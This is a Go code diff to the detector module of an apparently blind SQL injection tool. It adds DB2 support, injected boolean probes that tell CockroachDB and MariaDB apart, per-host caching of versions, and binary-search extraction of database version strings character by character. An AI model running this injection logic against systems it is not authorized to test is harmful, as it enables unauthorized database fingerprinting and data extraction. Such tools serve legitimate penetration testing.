@@ -1,13 +1,17 @@
 package detector
 
 import (
+	"errors"
 	"fmt"
+	"slices"
 	"strings"
+	"time"
 
 	"github.com/morkin1792/flatsqli/internal/calibrator"
 	"github.com/morkin1792/flatsqli/internal/fingerprint"
 	"github.com/morkin1792/flatsqli/internal/payloads"
 	"github.com/morkin1792/flatsqli/internal/requester"
+	"github.com/morkin1792/flatsqli/internal/storage"
 	"github.com/morkin1792/flatsqli/internal/ui"
 )
 
@@ -20,6 +24,7 @@ const (
 	MSSQL
 	PostgreSQL
 	Oracle
+	DB2
 )
 
 // String returns the string representation of the database type
@@ -33,11 +38,22 @@ func (d DatabaseType) String() string {
 		return "postgres"
 	case Oracle:
 		return "oracle"
+	case DB2:
+		return "db2"
 	default:
 		return "unknown"
 	}
 }
 
+// ErrNotDetected is returned by Detect when no database answers its probes
+var ErrNotDetected = errors.New("could not detect database type")
+
+// Known dialect variants of a detected database type
+const (
+	VariantCockroachDB = "cockroachdb"
+	VariantMariaDB     = "mariadb"
+)
+
 // ParseDatabaseType parses a string to DatabaseType
 func ParseDatabaseType(s string) DatabaseType {
 	switch strings.ToLower(s) {
@@ -49,6 +65,8 @@ func ParseDatabaseType(s string) DatabaseType {
 		return PostgreSQL
 	case "oracle", "ora":
 		return Oracle
+	case "db2", "ibmdb2", "ibm db2":
+		return DB2
 	default:
 		return Unknown
 	}
@@ -65,6 +83,8 @@ func (d DatabaseType) ToPayloadType() payloads.DatabaseType {
 		return payloads.PostgreSQL
 	case Oracle:
 		return payloads.Oracle
+	case DB2:
+		return payloads.DB2
 	default:
 		return payloads.Unknown
 	}
@@ -75,6 +95,9 @@ type Detector struct {
 	requester   *requester.Requester
 	calibration *calibrator.CalibrationResult
 	verbose     bool
+	variant     string
+	cache       *storage.HostStore // nil disables version hints and progress saving
+	hints       []string           // cached versions tried before the built-in prefixes
 }
 
 // New creates a new Detector
@@ -86,6 +109,12 @@ func New(req *requester.Requester, cal *calibrator.CalibrationResult, verbose bo
 	}
 }
 
+// SetCache lets version extraction predict characters from the versions cached
+// for the host, and save its progress so an interrupted detection resumes faster
+func (d *Detector) SetCache(cache *storage.HostStore) {
+	d.cache = cache
+}
+
 // Detect attempts to detect the database type and extract version
 func (d *Detector) Detect() (DatabaseType, string, error) {
 	ui.Verbose(d.verbose, "Starting database detection...")
@@ -127,13 +156,17 @@ func (d *Detector) Detect() (DatabaseType, string, error) {
 		if trueMatch == fingerprint.MatchTrue && falseMatch == fingerprint.MatchFalse {
 			ui.Verbose(d.verbose, "Database detected as %s!", dp.Name)
 
-			// Now extract the version
+			// Refine wire-compatible dialects before extracting the version
 			dbType := d.convertPayloadDB(dp.Database)
+			d.variant = d.detectVariant(dbType)
+
+			// Now extract the version
 			version, err := d.extractVersion(dbType)
 			if err != nil {
 				ui.Verbose(d.verbose, "Warning: Could not extract version: %v", err)
-				return dbType, "", nil
+				version = ""
 			}
+			d.refineVariant(dbType, version)
 
 			return dbType, version, nil
 		}
@@ -141,7 +174,44 @@ func (d *Detector) Detect() (DatabaseType, string, error) {
 		ui.Verbose(d.verbose, "TRUE=%s, FALSE=%s - not a match", trueMatch, falseMatch)
 	}
 
-	return Unknown, "", fmt.Errorf("could not detect database type")
+	return Unknown, "", ErrNotDetected
+}
+
+// Variant returns the dialect variant found by Detect (empty if none)
+func (d *Detector) Variant() string {
+	return d.variant
+}
+
+// detectVariant checks for dialects that speak the protocol of a detected database
+func (d *Detector) detectVariant(dbType DatabaseType) string {
+	switch dbType {
+	case PostgreSQL:
+		// CockroachDB answers version() with a "CockroachDB ..." banner
+		isCockroach, err := d.calibration.Probe(d.requester, "SUBSTRING(version(),1,11)='CockroachDB'")
+		if err == nil && isCockroach {
+			ui.Verbose(d.verbose, "PostgreSQL variant detected: %s", VariantCockroachDB)
+			return VariantCockroachDB
+		}
+	}
+	return ""
+}
+
+// refineVariant tells apart forks only the version shows: MariaDB passes for
+// MySQL, but its version() carries "-MariaDB". Without a version, it is probed.
+func (d *Detector) refineVariant(dbType DatabaseType, version string) {
+	if dbType != MySQL || d.variant != "" {
+		return
+	}
+	if version == "" {
+		isMariaDB, err := d.calibration.Probe(d.requester, "@@version LIKE '%MariaDB%'")
+		if err != nil || !isMariaDB {
+			return
+		}
+	} else if !strings.Contains(strings.ToLower(version), "mariadb") {
+		return
+	}
+	ui.Verbose(d.verbose, "MySQL variant detected: %s", VariantMariaDB)
+	d.variant = VariantMariaDB
 }
 
 // extractVersion extracts the version string from the database
@@ -157,31 +227,39 @@ func (d *Detector) extractVersion(dbType DatabaseType) (string, error) {
 	}
 
 	var bestVersion string
+	d.hints = d.cachedHints(dbType)
 
 	// Try each version query
 	for _, query := range queries {
 		ui.Verbose(d.verbose, "Extracting version using: %s", query)
 
 		version, err := d.extractString(query, payloadGen)
-
-		// Keep the longest version found, even if there was an error
-		if len(version) > len(bestVersion) {
-			bestVersion = version
+		if !PlausibleVersion(version) {
+			ui.Verbose(d.verbose, "Garbled version %q, trying the next query", version)
+			continue
 		}
 
 		if err != nil {
 			ui.Verbose(d.verbose, "Extraction failed/incomplete: %v", err)
+			// Keep the partial result too, it never overrides a conflicting earlier one
+			bestVersion = MergeVersions(dbType, version, bestVersion)
 			continue
 		}
+		bestVersion = MergeVersions(dbType, bestVersion, version)
 
-		// If we got a result without error, it's likely the best one
+		// A result without error is likely the best one, if it holds a version
 		if version != "" {
-			return version, nil
+			if HasVersion(dbType, version) {
+				d.saveVersion(bestVersion)
+				return bestVersion, nil
+			}
+			ui.Verbose(d.verbose, "No version number in %q, trying the next query", version)
 		}
 	}
 
 	if bestVersion != "" {
 		ui.Verbose(d.verbose, "Returning best partial version found")
+		d.savePartial(bestVersion)
 		return bestVersion, nil
 	}
 
@@ -189,7 +267,13 @@ func (d *Detector) extractVersion(dbType DatabaseType) (string, error) {
 }
 
 // extractString extracts a string value using binary search
-func (d *Detector) extractString(query string, payloadGen payloads.DatabasePayloads) (string, error) {
+func (d *Detector) extractString(query string, payloadGen payloads.DatabasePayloads) (value string, err error) {
+	usage := d.requester.StartUsage()
+	defer func() {
+		requests, elapsed := d.requester.Cost(usage)
+		ui.Verbose(d.verbose, "Extracted %q in %d requests, %s", value, requests, elapsed.Round(time.Millisecond))
+	}()
+
 	// First, find the length
 	length, err := d.findLength(query, payloadGen)
 	if err != nil {
@@ -222,6 +306,7 @@ func (d *Detector) extractString(query string, payloadGen payloads.DatabasePaylo
 			return "", err
 		}
 		result = append(result, char)
+		d.savePartial(string(result))
 		// Show live progress with extracted chars and position
 		ui.Progress("Extracting: %s [%d/%d]", string(result), i, length)
 	}
@@ -239,12 +324,12 @@ func (d *Detector) findLength(query string, payloadGen payloads.DatabasePayloads
 		mid := (low + high + 1) / 2
 		payload := payloadGen.GetLengthPayload(query, mid-1) // LENGTH > mid-1
 
-		resp, err := d.requester.Send(payload)
+		isTrue, err := d.calibration.Probe(d.requester, payload)
 		if err != nil {
 			return 0, err
 		}
 
-		if d.calibration.IsTrue(resp.Fingerprint) {
+		if isTrue {
 			low = mid
 		} else {
 			high = mid - 1
@@ -263,12 +348,12 @@ func (d *Detector) findChar(query string, pos int, payloadGen payloads.DatabaseP
 		mid := (low + high + 1) / 2
 		payload := payloadGen.GetCharPayload(query, pos, mid-1) // ASCII > mid-1
 
-		resp, err := d.requester.Send(payload)
+		isTrue, err := d.calibration.Probe(d.requester, payload)
 		if err != nil {
 			return 0, err
 		}
 
-		if d.calibration.IsTrue(resp.Fingerprint) {
+		if isTrue {
 			low = mid
 		} else {
 			high = mid - 1
@@ -281,8 +366,8 @@ func (d *Detector) findChar(query string, pos int, payloadGen payloads.DatabaseP
 // findCharWithPrefixes tries to find a character using known version prefixes first,
 // then falls back to binary search if no prefix matches.
 func (d *Detector) findCharWithPrefixes(query string, pos int, currentResult string, payloadGen payloads.DatabasePayloads) (byte, error) {
-	// Get candidate prefixes that match what we have so far
-	prefixes := payloads.GetVersionPrefixes(payloadGen.GetType())
+	// Get candidate prefixes that match what we have so far, cached versions first
+	prefixes := slices.Concat(d.hints, payloads.GetVersionPrefixes(payloadGen.GetType()))
 	var candidates []string
 	for _, p := range prefixes {
 		if len(p) >= pos && strings.HasPrefix(p, currentResult) {
@@ -296,12 +381,12 @@ func (d *Detector) findCharWithPrefixes(query string, pos int, currentResult str
 		for _, c := range uniqueChars {
 			// Try equality check: ASCII(char) = c
 			payload := payloadGen.GetEqualityPayload(query, pos, int(c))
-			resp, err := d.requester.Send(payload)
+			isTrue, err := d.calibration.Probe(d.requester, payload)
 			if err != nil {
 				// On error, fall back to binary search
 				return d.findChar(query, pos, payloadGen)
 			}
-			if d.calibration.IsTrue(resp.Fingerprint) {
+			if isTrue {
 				return c, nil
 			}
 		}
@@ -311,6 +396,48 @@ func (d *Detector) findCharWithPrefixes(query string, pos int, currentResult str
 	return d.findChar(query, pos, payloadGen)
 }
 
+// cachedHints returns the version left by an unfinished detection and the known
+// strings holding a version number for dbType, e.g. the banner of a previous run
+func (d *Detector) cachedHints(dbType DatabaseType) []string {
+	if d.cache == nil {
+		return nil
+	}
+
+	var hints []string
+	if partial := d.cache.LoadPartialVersion(); partial != "" {
+		ui.Verbose(d.verbose, "Resuming from cached partial version: %s", partial)
+		hints = append(hints, partial)
+	}
+	for _, known := range d.cache.LoadKnownStrings() {
+		if HasVersion(dbType, known) {
+			hints = append(hints, known)
+		}
+	}
+	return hints
+}
+
+// savePartial caches the version extracted so far
+func (d *Detector) savePartial(partial string) {
+	if d.cache == nil {
+		return
+	}
+	if err := d.cache.SavePartialVersion(partial); err != nil {
+		ui.Verbose(d.verbose, "Warning: Could not save partial version: %v", err)
+	}
+}
+
+// saveVersion caches a complete version as a known string for later predictions
+// and drops the partial one
+func (d *Detector) saveVersion(version string) {
+	if d.cache == nil {
+		return
+	}
+	d.savePartial("")
+	if err := d.cache.SaveKnownString(version); err != nil {
+		ui.Verbose(d.verbose, "Warning: Could not save version: %v", err)
+	}
+}
+
 // getUniqueCharsAtPosition returns unique characters at the given position (1-indexed)
 // from a list of prefix strings.
 func (d *Detector) getUniqueCharsAtPosition(prefixes []string, pos int) []byte {
@@ -339,6 +466,8 @@ func (d *Detector) convertPayloadDB(pdb payloads.DatabaseType) DatabaseType {
 		return PostgreSQL
 	case payloads.Oracle:
 		return Oracle
+	case payloads.DB2:
+		return DB2
 	default:
 		return Unknown
 	}